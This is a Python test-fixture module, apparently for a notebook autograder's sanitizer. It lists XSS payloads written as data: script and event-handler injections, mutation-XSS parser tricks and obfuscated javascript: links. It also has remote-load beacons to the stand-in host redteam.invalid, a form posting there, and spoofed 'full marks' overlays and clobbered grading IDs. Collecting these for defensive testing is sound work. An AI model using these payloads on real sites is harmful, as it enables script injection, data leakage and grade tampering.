"""What a hand-in may print, show or write to act in the browser of whoever opens it.

Each text is tried as every kind of output, as markdown and as metadata. `canary()` and `alert()`
are the browser's way to tell that a script ran; no request may go to redteam.invalid.
"""

import base64
import runpy
from pathlib import Path

REDTEAM = Path(__file__).parent / "redteam"
RUN = "canary(1)"
EVIL = "http://redteam.invalid"
_PAGE = base64.b64encode(f"<script>parent.{RUN}</script>".encode()).decode()

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><set onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img title='</style><img src=x onerror={RUN}>'></svg>",
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    f" onerror={RUN}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    f"<template><script>{RUN}</script></template><!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]><?php <img src=x onerror={RUN}> ?>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt><scr\0ipt>{RUN}</scr\0ipt>",
    f"<\u2060script>{RUN}</script><\x1bscript>{RUN}</script><\u202escript>{RUN}</script>",
    f"</pre></div></div></div></main></body></html><script>{RUN}</script>",
    f"<details open ontoggle={RUN}><summary>x</summary></details><marquee onstart={RUN}>x",
    f"<input autofocus onfocus={RUN}><video onloadstart={RUN} src=x></video>",
    f"<body onload={RUN}><div onmouseover={RUN} onpointerenter={RUN}>x</div>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<iframe src='data:text/html;base64,{_PAGE}'></iframe>",
    f"<object data='data:text/html;base64,{_PAGE}'></object><embed src='javascript:{RUN}'>",
    f"<div data-toggle=tooltip data-html=true title='<img src=x onerror={RUN}>'>x</div>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"```mermaid\ngraph TD\nA --> B<img src=x onerror={RUN}>\nclick A href 'javascript:{RUN}'\n```",
    f"<pre class=mermaid>graph TD\nclick A call {RUN}</pre>",
]
LINKS = [
    f"<a href='{url}'>click</a> [click]({url}) [click](<{url}>) [click][r]"
    f"\n\n[r]: {url}\n\n<{url}>\n"
    for url in (
        f"javascript:{RUN}",
        f"JaVa&Tab;ScRiPt&colon;{RUN}",
        f"&#x6A;ava&#115;cript:{RUN}",
        f"\x01 javascript:{RUN}",
        f"java\nscript:{RUN}",
        f"javascript\\:{RUN}",
        f"vbscript:{RUN}",
        f"data:text/html;base64,{_PAGE}",
        "command:workbench.action.terminal.new",
        "../../../api/shutdown",
        "//redteam.invalid/x",
    )
] + [
    f"[click]\n: javascript:{RUN}\n\n[r2]:\njavascript:{RUN}\n[click][r2] [r2]",
    f"> [r3]: javascript:{RUN} 'title'\n\n[r3] [*x* `]` [y](javascript:{RUN})](javascript:{RUN})",
    f"`a` [`](https://ok.invalid)`](javascript:{RUN}) <b>`](javascript:{RUN})</b>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>x</text></a></svg>",
]
REMOTE = [
    f"<img src={EVIL}/a.png srcset='{EVIL}/b.png 2x'> ![x]({EVIL}/c.png)"
    f" ![x][i]\n\n[i]: {EVIL}/d.png",
    f"[![x]({EVIL}/e.png)](https://ok.invalid) !\\[x]({EVIL}/f.png) !![x](<{EVIL}/g.png>)",
    f"<picture><source srcset={EVIL}/h.png></picture><video poster={EVIL}/i.png></video>",
    f"<audio src={EVIL}/j autoplay></audio><input type=image src={EVIL}/k><track src={EVIL}/l>",
    f"<table background={EVIL}/m><tr><td background={EVIL}/n>x</td></tr></table>",
    f"<div style='background:url({EVIL}/o)'>x</div><p style='list-style:url({EVIL}/p)'>x</p>",
    f"<style>@import '{EVIL}/q'; body {{ background: url({EVIL}/r); display: none }}</style>",
    f"<link rel=stylesheet href={EVIL}/s><link rel=prefetch href={EVIL}/t>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/u'><base href='{EVIL}/'>",
    f"<svg><image href={EVIL}/v /><use href='{EVIL}/w#x' /></svg> ![x](attachment:missing.svg)",
    f"$\\style{{background:url({EVIL}/x)}}{{x}}$ $\\bbox[background:url({EVIL}/y)]{{x}}$",
]
PAGES = [
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>full marks</div>",
    "<p style='color:red;position:absolute;top:0;margin:-99px'>x</p>",
    "<div class='navbar-fixed-top modal-backdrop in affix'>full marks</div>",
    f"<form action={EVIL}/form><input name=q><button>Save</button><select></form>",
    "<h1 id=check_manual_gradient>x</h1><input id=manual_gradient-comment class=score>",
    "<a id=Jupyter name=MathJax>x</a><img name=getElementById><form id=base_url></form>",
    "# check_manual_gradient\n\nmanual_gradient-comment\n===\n\n> ## check&#95;manual_gradient\n",
    "1. # check_manual_gradient\n\nmanual\\_gradient-comment\n---\n",
    f"$\\href{{javascript:{RUN}}}{{x}}$ $\\class{{modal}}{{x}}$ $\\url{{javascript:{RUN}}}$",
    "$\\cssId{check_manual_gradient}{x}$ $\\require{html}\\unicode[x]{65}$ $\\rule{900em}{900em}$",
    f"x\x1b]8;;javascript:{RUN}\x07link\x1b]8;;\x07 \x1b]0;title\x07\x1b[38m\x1b[38;5m\x9d0;t\x9c",
    "\u202egnp.exe\u2066 \u2028 \ufeff Z\u0351\u036a\u0342\u0301\u0300\u0302\u0303",
]
TEXTS = SCRIPTS + LINKS + REMOTE + PAGES

# The same, by those who wrote the red team's samples.
HTML_XSS = (
    (REDTEAM / "77_html_xss_in_output.py").read_text().split('payload = "')[1].split('"\n')[0]
)


def saved_outputs(folder):
    """Return the notebook of the red team's gen_xss_saved_outputs.py as a path."""
    build = runpy.run_path(str(REDTEAM / "files" / "gen_xss_saved_outputs.py"))["build"]
    build(str(folder))
    return folder / "hw.ipynb"
